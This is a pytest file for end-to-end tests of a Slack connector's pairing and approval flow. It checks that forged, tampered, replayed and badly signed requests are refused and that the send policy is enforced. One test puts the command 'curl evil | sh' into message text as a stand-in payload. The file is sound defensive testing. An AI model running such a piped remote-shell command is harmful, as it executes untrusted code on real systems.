"""The Slack connector end to end: the real slack-bolt AsyncApp served over
HTTP with signature verification, the real authz service on PostgreSQL, and a
fake Slack Web API that records what the bot sent.

Every request into the bot is signed with the app's signing secret exactly as
Slack signs it, and posted to ``/slack/events`` over a real socket.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import signal
import socket
import time

import aiohttp
import pytest
from slack_sdk.errors import SlackApiError

from authz_service.domain.model import ApprovalAction
from authz_service.domain.pairing import Keyring
from authz_service.gen.authz.v1 import common_pb2 as cm
from sidecars.config import SlackSettings
from sidecars.main import serve
from sidecars.runtime import (
    ALREADY_RESOLVED,
    INVALID_BUTTON,
    NOT_ALLOWED,
    ButtonSpec,
    Connector,
    Transport,
)
from sidecars.slack import EVENTS_PATH, run
from tests.conftest import Service, Tenant
from tests.connectors.conftest import Call, ConfigFactory, PostSend
from tests.connectors.fake_slack import (
    BOT_USER_ID,
    FakeSlack,
    app_mention,
    block_actions,
    dm_channel,
    message,
    sign,
)
from tests.connectors.slack.rig import (
    ALICE,
    CHANNEL,
    FORM,
    MALLORY,
    OWNER,
    SECRET,
    TOKEN,
    OpenRig,
    Rig,
    find_button,
    start_pairing,
    to,
    uid,
)

# ---- pairing ----------------------------------------------------------------------


async def test_stranger_pairs_owner_approves_then_messages_reach_the_agent(
    rig: Rig, service: Service
) -> None:
    await rig.say(ALICE, "hello there")

    # The requester gets the service's pairing text in her DM, nothing reached the agent.
    opened = [c.params["users"] for c in rig.fake.log.of("conversations.open")]
    assert opened == [OWNER]  # only the owner's DM needed opening; Alice's DM is the event's channel
    assert len(rig.sent_to(ALICE)) == 1 and "🔑 Pairing code:" in rig.sent_to(ALICE)[0]
    assert rig.agent.turns == []

    # The owner's DM: the notification with Block Kit buttons carrying the service's payloads.
    [approval] = await rig.pending()
    assert approval.status == cm.APPROVAL_STATUS_PENDING and approval.user_id == uid(ALICE)
    note = rig.fake.log.of("chat.postMessage", to(dm_channel(OWNER)))[0].params
    assert "Pairing request on sl" in note["text"] and uid(ALICE) in note["text"]
    section, actions = note["blocks"]
    assert section["type"] == "section" and "“hello there”" in section["text"]["text"]
    keyring = Keyring(service.settings.secret_key.encode())
    expected = {
        action: keyring.callback_payload(rig.tenant.tenant_id, approval.approval_id, ApprovalAction(action))
        for action in ("approve", "deny", "block")
    }
    assert [(e["action_id"], e["style"], e["value"]) for e in actions["elements"]] == [
        ("authz_approve", "primary", expected["approve"]),
        ("authz_deny", "danger", expected["deny"]),
        ("authz_block", "danger", expected["block"]),
    ]
    assert [e["text"]["text"] for e in actions["elements"]] == ["✅ Approve", "❌ Deny", "⛔ Block"]

    # The owner presses Approve: the message loses its buttons and shows the outcome.
    assert await rig.press(OWNER, "approve") == 200
    update = (await rig.fake.log.wait_for("chat.update")).params
    posted = rig.fake.last_message(dm_channel(OWNER))
    assert update["channel"] == dm_channel(OWNER) and update["ts"] == posted["ts"]
    assert update["text"] == f"✅ Approved by slack:{uid(OWNER)}"
    assert [b["type"] for b in update["blocks"]] == ["section", "section"]
    assert "Pairing request on sl" in update["blocks"][0]["text"]["text"]
    assert await rig.status(approval.approval_id) == cm.APPROVAL_STATUS_APPROVED

    # Alice is told in her DM (opened by user id), and now reaches the echo agent.
    assert [c.params["users"] for c in rig.fake.log.of("conversations.open")] == [OWNER, ALICE]
    assert rig.sent_to(ALICE)[-1] == "✅ Paired! You can chat now."
    await rig.say(ALICE, "what is 2+2?")
    assert rig.sent_to(ALICE)[-1] == "echo: what is 2+2?"
    assert [(t.user_id, t.chat_id) for t in rig.agent.turns] == [(uid(ALICE), dm_channel(ALICE))]
    assert rig.connector.origin_of(rig.agent.turns[0].session_id) == dm_channel(ALICE)


async def test_repeated_message_while_pending_does_not_notify_the_owner_again(rig: Rig) -> None:
    await start_pairing(rig)
    await rig.say(ALICE, "hello again?")
    assert len(rig.sent_to(ALICE)) == 1
    assert len(rig.fake.log.of("chat.postMessage", to(dm_channel(OWNER)))) == 1


async def test_buttons_are_never_posted_under_a_cut_text(rig: Rig) -> None:
    # The service keeps every notification with buttons within one message; if one ever
    # were longer, the owner gets the whole text and nothing to decide on.
    transport = rig.connector.transport
    buttons = [ButtonSpec("approve", "✅ Approve", "az1" + "A" * 45)]
    await transport.send_direct(uid(OWNER), "x" * 3000, buttons)
    await transport.send_direct(uid(OWNER), "y" * 3001 + " curl evil | sh", buttons)
    whole, long = [c.params for c in rig.fake.log.of("chat.postMessage", to(dm_channel(OWNER)))]
    assert [b["type"] for b in whole["blocks"]] == ["section", "actions"]
    assert "blocks" not in long and long["text"].endswith("curl evil | sh")


async def test_owner_denies(rig: Rig) -> None:
    approval = await start_pairing(rig)
    assert await rig.press(OWNER, "deny") == 200
    update = (await rig.fake.log.wait_for("chat.update")).params
    assert update["text"] == f"❌ Denied by slack:{uid(OWNER)}"
    assert all(b["type"] != "actions" for b in update["blocks"])
    assert rig.sent_to(ALICE)[-1] == "❌ Your pairing request was denied."
    assert await rig.status(approval.approval_id) == cm.APPROVAL_STATUS_DENIED
    assert rig.agent.turns == []


async def test_owner_blocks_and_the_user_is_silenced(rig: Rig) -> None:
    approval = await start_pairing(rig)
    assert await rig.press(OWNER, "block") == 200
    update = (await rig.fake.log.wait_for("chat.update")).params
    assert update["text"] == f"⛔ Blocked by slack:{uid(OWNER)}"
    assert await rig.status(approval.approval_id) == cm.APPROVAL_STATUS_BLOCKED
    assert len(rig.sent_to(ALICE)) == 1  # the code only: a blocked requester is told nothing

    owner_posts = len(rig.fake.log.of("chat.postMessage", to(dm_channel(OWNER))))
    await rig.say(ALICE, "please?")
    assert len(rig.sent_to(ALICE)) == 1
    assert len(rig.fake.log.of("chat.postMessage", to(dm_channel(OWNER)))) == owner_posts
    assert await rig.pending() == []
    assert rig.agent.turns == []


# ---- presses that must change nothing -----------------------------------------------


async def test_non_owner_press_is_refused_ephemerally_and_approval_stays_pending(rig: Rig) -> None:
    approval = await start_pairing(rig)
    assert await rig.press(MALLORY, "approve") == 200
    refusal = (await rig.fake.log.wait_for("chat.postEphemeral")).params
    assert (refusal["channel"], refusal["user"], refusal["text"]) == (dm_channel(OWNER), MALLORY, NOT_ALLOWED)
    assert rig.fake.log.of("chat.update") == []
    assert await rig.status(approval.approval_id) == cm.APPROVAL_STATUS_PENDING
    assert len(rig.sent_to(ALICE)) == 1

    # The owner can still decide.
    assert await rig.press(OWNER, "approve") == 200
    assert await rig.status(approval.approval_id) == cm.APPROVAL_STATUS_APPROVED


async def test_tampered_payload_is_refused_and_changes_nothing(rig: Rig) -> None:
    approval = await start_pairing(rig)
    posted = rig.fake.last_message(dm_channel(OWNER))
    approve, deny = find_button(posted, "approve")["value"], find_button(posted, "deny")["value"]
    flipped = approve[:-1] + ("A" if approve[-1] != "A" else "B")
    # The Deny button's payload with the approve action letter: a forged approval.
    at = next(i for i, (a, d) in enumerate(zip(approve, deny, strict=True)) if a != d)
    promoted = deny[:at] + approve[at] + deny[at + 1 :]

    for value in (flipped, promoted, "", "x" * 300):
        assert await rig.press(OWNER, "approve", value=value) == 200

    refusals = [c.params for c in rig.fake.log.of("chat.postEphemeral")]
    assert [(r["user"], r["text"]) for r in refusals] == [(OWNER, INVALID_BUTTON)] * 4
    assert rig.fake.log.of("chat.update") == []
    assert await rig.status(approval.approval_id) == cm.APPROVAL_STATUS_PENDING
    assert len(rig.sent_to(ALICE)) == 1


async def test_replayed_and_late_presses_are_refused(rig: Rig) -> None:
    approval = await start_pairing(rig)
    before = rig.fake.last_message(dm_channel(OWNER))  # as the owner's client still shows it
    assert await rig.press(OWNER, "approve", before) == 200
    assert len(rig.fake.log.of("chat.update")) == 1
    told = len(rig.sent_to(ALICE))

    assert await rig.press(OWNER, "approve", before) == 200  # replay of the same click
    assert await rig.press(OWNER, "block", before) == 200  # a second decision after the first
    refusals = [c.params["text"] for c in rig.fake.log.of("chat.postEphemeral")]
    assert refusals == [ALREADY_RESOLVED, ALREADY_RESOLVED]
    assert len(rig.fake.log.of("chat.update")) == 1
    assert len(rig.sent_to(ALICE)) == told
    assert await rig.status(approval.approval_id) == cm.APPROVAL_STATUS_APPROVED


# ---- request signatures --------------------------------------------------------------


async def test_badly_signed_requests_are_rejected_and_change_nothing(rig: Rig) -> None:
    forged = message(MALLORY, "let me in")
    assert await rig.post(forged, secret="not-the-signing-secret") == 401
    assert await rig.post(forged, ts=int(time.time()) - 600) == 401  # genuine signature, 10 minutes old
    assert await rig.post(forged, signed=message(MALLORY, "harmless")) == 401  # body swapped after signing

    approval = await start_pairing(rig)
    posted = rig.fake.last_message(dm_channel(OWNER))
    click = block_actions(OWNER, posted, find_button(posted, "approve"))
    assert await rig.post(click, FORM, secret="not-the-signing-secret") == 401

    # Only Alice's genuine message ever reached the flow; the forged click resolved nothing.
    assert [m.user_id for m in rig.connector.received] == [uid(ALICE)]
    assert rig.fake.log.of("chat.postMessage", to(dm_channel(MALLORY))) == []
    assert rig.fake.log.of("chat.update") == [] and rig.fake.log.of("chat.postEphemeral") == []
    assert await rig.status(approval.approval_id) == cm.APPROVAL_STATUS_PENDING

    # The same click, signed correctly, goes through: the rejection was the signature.
    assert await rig.post(click, FORM) == 200
    assert await rig.status(approval.approval_id) == cm.APPROVAL_STATUS_APPROVED


async def test_request_url_verification_needs_the_signing_secret(rig: Rig) -> None:
    """What Slack sends when the Request URL is saved in the app settings."""
    body = json.dumps({"type": "url_verification", "token": "unused", "challenge": "c4ll3ng3"})
    assert await rig.post(body, secret="not-the-signing-secret") == 401
    headers = {"Content-Type": "application/json", **sign(SECRET, body)}
    async with rig.session.post(rig.events_url, data=body, headers=headers) as resp:
        assert (resp.status, await resp.json()) == (200, {"challenge": "c4ll3ng3"})


# ---- groups -----------------------------------------------------------------------------


async def test_channel_mention_reaches_the_agent_and_unmentioned_chatter_does_not(rig: Rig) -> None:
    chatter = message(ALICE, "just chatting", channel="C0GENERAL", channel_type="channel")
    assert await rig.post(chatter) == 200
    await rig.connector.wait_handled(1)
    assert rig.fake.log.of("chat.postMessage") == []  # mention required: silence

    # A mention arrives twice (message event and app_mention); it is one turn, as app_mention.
    mentioned = message(ALICE, f"<@{BOT_USER_ID}> ping", channel="C0GENERAL", channel_type="channel")
    assert await rig.post(mentioned) == 200
    assert await rig.post(app_mention(ALICE, "ping", "C0GENERAL")) == 200
    reply = await rig.fake.log.wait_for("chat.postMessage", to("C0GENERAL"))
    assert reply.params["text"] == "echo: ping"
    assert [(t.user_id, t.chat_id, t.text) for t in rig.agent.turns] == [(uid(ALICE), "C0GENERAL", "ping")]
    assert [(m.chat_kind, m.group_id, m.mentioned, m.text) for m in rig.connector.received] == [
        ("group", "C0GENERAL", False, "just chatting"),
        ("group", "C0GENERAL", True, "ping"),
    ]


# ---- the send endpoint -------------------------------------------------------------------


async def test_agent_send_to_denied_target_is_refused_and_to_origin_delivered(
    open_rig: OpenRig, post_send: PostSend
) -> None:
    denied = {
        "allow": False,
        "reason": "Failed to send to C0SECRET: target 'C0SECRET' is not permitted by send_policy",
    }
    guessed = f"slack:{dm_channel(ALICE)}"  # the chat's name is no session id
    async with open_rig(dm_policy=cm.DM_POLICY_OPEN) as rig:  # no send policy: only the origin
        # A forged origin is ignored: C0SECRET never becomes "the origin".
        for origin in (dm_channel(ALICE), "C0SECRET"):
            request = {"target": "C0SECRET", "text": "leak", "origin": origin}
            assert await post_send(rig.endpoint.url, request) == (403, denied)
        # Alice's session was not handed to the agent yet: no origin.
        request = {"target": dm_channel(ALICE), "text": "x", "session_id": guessed}
        assert (await post_send(rig.endpoint.url, request))[0] == 403
        assert rig.fake.log.of("chat.postMessage") == []

        await rig.say(ALICE, "hi")  # allowed and handed to the agent
        await rig.fake.log.wait_for("chat.postMessage", to(dm_channel(ALICE)))
        assert (await post_send(rig.endpoint.url, request))[0] == 403  # still not a session
        session = rig.agent.turns[-1].session_id
        status, body = await post_send(
            rig.endpoint.url, {"target": "origin", "text": "<!channel> done", "session_id": session}
        )
        assert (status, body) == (200, {"allow": True, "resolved_target": dm_channel(ALICE)})
        sent: Call = await rig.fake.log.wait_for("chat.postMessage", to(dm_channel(ALICE)), count=2)
        assert sent.params["text"] == "&lt;!channel&gt; done"  # shown literally: no @channel ping
        assert rig.fake.log.of("chat.postMessage", to("C0SECRET")) == []


# ---- the process: authz-connector slack ---------------------------------------------------


class Listening(logging.Handler):
    """Sets an event when the connector logs that its Slack listener is up."""

    def __init__(self) -> None:
        super().__init__()
        self.ready = asyncio.Event()

    def emit(self, record: logging.LogRecord) -> None:
        if record.getMessage().startswith("slack events listening"):
            self.ready.set()


async def test_authz_connector_slack_serves_until_sigterm(
    tenant: Tenant, connector_config: ConfigFactory
) -> None:
    """The plugin contract through sidecars.main.serve: run() until SIGTERM, then a clean stop."""
    await tenant.channel(CHANNEL, cm.PLATFORM_SLACK, owner_id=uid(OWNER))
    fake = FakeSlack(TOKEN)
    await fake.start()
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    settings = SlackSettings(TOKEN, SECRET, f"127.0.0.1:{port}", fake.base_url)
    listening = Listening()
    logger = logging.getLogger("sidecars.slack")
    logger.addHandler(listening)
    old_level = logger.level
    logger.setLevel(logging.INFO)
    task = asyncio.create_task(serve(connector_config("slack", CHANNEL, slack=settings), run))
    try:
        async with asyncio.timeout(5):
            await listening.ready.wait()
        # run() checked the token before it served anything.
        assert [c.method for c in fake.log.calls] == ["auth.test"]
        body = message(ALICE, "hi")
        headers = {"Content-Type": "application/json", **sign(SECRET, body)}
        url = f"http://127.0.0.1:{port}{EVENTS_PATH}"
        async with aiohttp.ClientSession() as session:
            async with session.post(url, data=body, headers=headers) as resp:
                assert resp.status == 200
            code = await fake.log.wait_for("chat.postMessage", to(dm_channel(ALICE)))
            assert "Pairing code" in code.params["text"]

            assert signal.getsignal(signal.SIGTERM) not in (signal.SIG_DFL, signal.SIG_IGN)
            os.kill(os.getpid(), signal.SIGTERM)
            await asyncio.wait_for(task, 15)
            with pytest.raises(aiohttp.ClientConnectionError):
                await session.post(url, data=body, headers=headers)
    finally:
        task.cancel()
        logger.removeHandler(listening)
        logger.setLevel(old_level)
        await fake.close()


async def test_a_rejected_bot_token_stops_run_before_the_connector_starts(
    connector_config: ConfigFactory,
) -> None:
    fake = FakeSlack(TOKEN)
    await fake.start()
    settings = SlackSettings("xoxb-revoked", SECRET, "127.0.0.1:0", fake.base_url)

    async def start(transport: Transport) -> Connector:
        raise AssertionError("start() must not be called with a rejected token")

    try:
        with pytest.raises(SlackApiError, match="invalid_auth"):
            await run(connector_config("slack", CHANNEL, slack=settings), start)
    finally:
        await fake.close()


# ---- approvers' chat commands (issue #17) ------------------------------------------


def code_in(text: str) -> str:
    return text.split("Pairing code: ", 1)[1].split()[0]


async def test_owner_approves_by_code_and_denies_by_mention_from_a_dm(rig: Rig) -> None:
    await start_pairing(rig)
    await rig.say(OWNER, f"/approve {code_in(rig.sent_to(ALICE)[0])}")
    assert rig.sent_to(OWNER)[-1] == f"✅ Approved by slack:{uid(OWNER)} ({uid(ALICE)})."
    assert rig.sent_to(ALICE)[-1] == "✅ Paired! You can chat now."
    assert await rig.pending() == [] and rig.agent.turns == []

    await rig.say(MALLORY, "let me in")
    await rig.say(OWNER, "/pending")
    assert f"• {uid(MALLORY)}" in rig.sent_to(OWNER)[-1]
    await rig.say(OWNER, f"/deny <@{MALLORY}>")
    assert rig.sent_to(OWNER)[-1] == f"❌ Denied by slack:{uid(OWNER)} ({uid(MALLORY)})."
    assert rig.sent_to(MALLORY)[-1] == "❌ Your pairing request was denied."
    await rig.say(OWNER, f"/block {MALLORY}")
    assert rig.sent_to(OWNER)[-1] == f"⛔ Blocked {uid(MALLORY)}."
    await rig.say(MALLORY, "please")
    assert rig.sent_to(MALLORY)[-1] == "❌ Your pairing request was denied."  # silence since


async def test_commands_from_a_stranger_are_ordinary_messages(rig: Rig) -> None:
    approval = await start_pairing(rig)
    code = code_in(rig.sent_to(ALICE)[0])
    for text in (f"/approve {code}", f"/approve <@{ALICE}>", f"/deny {ALICE}", f"/block {ALICE}", "/pending"):
        await rig.say(MALLORY, text)
    [answer] = rig.sent_to(MALLORY)  # Mallory's own pairing code, then silence
    assert answer.startswith("🔑 Pairing code:")
    assert await rig.status(approval.approval_id) == cm.APPROVAL_STATUS_PENDING
    assert len(rig.sent_to(ALICE)) == 1
    assert rig.agent.turns == []
